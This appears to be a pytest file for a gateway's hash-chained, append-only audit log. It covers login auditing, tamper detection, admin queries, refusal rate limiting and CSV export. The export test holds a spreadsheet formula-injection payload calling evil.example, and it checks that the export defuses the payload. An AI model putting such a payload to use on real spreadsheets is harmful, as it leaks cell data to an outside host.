"""The audit log: a row for every login and logout, chained by hash, append-only, free of secrets."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError

from dockback_gateway.audit.models import AuditEntry
from dockback_gateway.audit.service import verify_chain
from dockback_gateway.auth import refusals
from dockback_gateway.auth.refusals import RefusalLimiter
from dockback_gateway.users.models import Role
from gateway.accounts import logged_in_as
from gateway.conftest import Gateway, logged_in_admin, login


async def test_logins_and_logouts_are_audited_in_an_intact_chain_without_secrets(gateway: Gateway) -> None:
    canary = "canary-password-never-logged-7"
    async with gateway.client() as client:
        assert (await login(client, "admin", canary)).status_code == 401
        assert (await login(client, "admin", gateway.admin_password)).status_code == 200
        assert (await client.post("/auth/logout")).status_code == 204

    async with gateway.app.state.sessions() as db:
        entries = (await db.scalars(select(AuditEntry).order_by(AuditEntry.id))).all()
        report = await verify_chain(db)
    actions = [(e.action, e.outcome) for e in entries]
    assert ("login", "failure") in actions
    assert ("login", "success") in actions
    assert ("logout", "success") in actions
    assert report.intact
    assert report.rows == len(entries)
    dumped = " ".join(f"{e.actor} {e.target} {e.details}" for e in entries)
    assert canary not in dumped
    assert gateway.admin_password not in dumped
    assert all(e.ip is not None for e in entries if e.action in ("login", "logout"))


async def test_audit_rows_cannot_be_changed_or_deleted(gateway: Gateway) -> None:
    async with gateway.app.state.sessions() as db:
        with pytest.raises(DBAPIError, match="append-only"):
            await db.execute(text("UPDATE audit_log SET outcome = 'success'"))
    async with gateway.app.state.sessions() as db:
        with pytest.raises(DBAPIError, match="append-only"):
            await db.execute(text("DELETE FROM audit_log"))


async def test_a_tampered_row_breaks_the_chain_at_that_row(gateway: Gateway) -> None:
    async with gateway.client() as client:
        await login(client, "admin", "wrong-password-1")
        await login(client, "admin", "wrong-password-2")
    async with gateway.app.state.sessions.begin() as db:
        # Only someone bypassing the trigger (a superuser) can do this; the chain still tells.
        await db.execute(text("ALTER TABLE audit_log DISABLE TRIGGER audit_log_append_only"))
        second = (await db.scalars(select(AuditEntry).order_by(AuditEntry.id).offset(1).limit(1))).one()
        await db.execute(text("UPDATE audit_log SET target = 'someone-else' WHERE id = :id"), {"id": second.id})
        await db.execute(text("ALTER TABLE audit_log ENABLE TRIGGER audit_log_append_only"))
    async with gateway.app.state.sessions() as db:
        report = await verify_chain(db)
    assert report.first_broken_id == second.id


async def test_the_audit_log_is_queryable_by_admins_with_filters_and_pages(gateway: Gateway) -> None:
    async with gateway.client() as other:
        for i in range(3):
            await login(other, "admin", f"wrong-password-{i}")
    async with logged_in_admin(gateway) as client:
        failures = (await client.get("/audit", params={"action": "login", "outcome": "failure"})).json()
        first = (await client.get("/audit", params={"limit": 2})).json()
        second = (await client.get("/audit", params={"limit": 2, "before": first["next_before"]})).json()
        bad = await client.get("/audit", params={"limit": 0})

    assert len(failures["entries"]) == 3
    assert all(e["action"] == "login" and e["outcome"] == "failure" for e in failures["entries"])
    assert len(first["entries"]) == 2
    assert first["entries"][0]["id"] > first["entries"][1]["id"] > second["entries"][0]["id"]
    assert bad.status_code == 422
    assert bad.json()["detail"][0]["field"] == "limit"


async def test_a_viewers_refused_attempts_leave_a_bounded_number_of_rows(
    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    now = [1000.0]
    gateway.app.state.refusal_limiter = RefusalLimiter(clock=lambda: now[0])
    async with logged_in_as(gateway, Role.VIEWER) as viewer:
        for _ in range(12):
            assert (await viewer.post("/plans", json={})).status_code == 403
        now[0] += 61  # a minute later: the next refusal writes a row counting those in between
        assert (await viewer.post("/plans", json={})).status_code == 403
        assert (await viewer.get("/audit")).status_code == 403

        async def unwritable(*args: object, **kwargs: object) -> None:
            raise RuntimeError("the database is away")

        monkeypatch.setattr(refusals, "record", unwritable)
        now[0] += 61
        refused = await viewer.post("/plans", json={})
        assert refused.status_code == 403  # refused even when the row cannot be written
        assert refused.json()["error"] == "forbidden"

    async with gateway.app.state.sessions() as db:
        rows = (
            await db.scalars(select(AuditEntry).where(AuditEntry.action == "access.refused").order_by(AuditEntry.id))
        ).all()
        report = await verify_chain(db)
    assert [(r.actor, r.outcome, r.target) for r in rows] == [
        ("viewer", "failure", "POST /plans"),
        ("viewer", "failure", "POST /plans"),
        ("viewer", "failure", "GET /audit"),
    ]
    assert [r.details["refusals"] for r in rows] == [1, 12, 1]
    assert rows[0].details["method"] == "POST"
    assert rows[0].details["route"] == "/plans"
    assert rows[0].details["role"] == "viewer"
    assert "viewer role may not" in rows[0].details["reason"]
    assert all(r.ip is not None for r in rows)
    assert report.intact


async def test_the_audit_log_exports_as_csv_filtered_complete_and_safe_in_a_spreadsheet(gateway: Gateway) -> None:
    hostile = '=hyperlink("http://evil.example/?"&a1, "x")'
    async with gateway.client() as other:
        for i in range(3):
            await login(other, "admin", f"wrong-password-{i}")
        await login(other, hostile, "whatever-password")
    async with logged_in_as(gateway, Role.VIEWER) as viewer:
        assert (await viewer.get("/audit/export.csv")).status_code == 403
    async with logged_in_admin(gateway) as admin:
        exported = await admin.get("/audit/export.csv", params={"action": "login", "outcome": "failure"})
        everything = await admin.get("/audit/export.csv")
        listed = (await admin.get("/audit", params={"limit": 500})).json()["entries"]

    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    assert "attachment" in exported.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert list(rows[0]) == ["id", "at", "actor", "action", "target", "outcome", "ip", "user_agent", "details", "hash"]
    assert [(r["action"], r["outcome"]) for r in rows] == [("login", "failure")] * 4
    assert rows[0]["target"] == "'" + hostile.strip().lower()  # a formula made text, its quotes and comma kept
    assert sorted(r["target"] for r in rows[1:]) == ["admin"] * 3
    assert json.loads(rows[1]["details"]) == {"reason": "wrong credentials"}
    assert [int(r["id"]) for r in csv.DictReader(io.StringIO(everything.text))] == [e["id"] for e in listed]
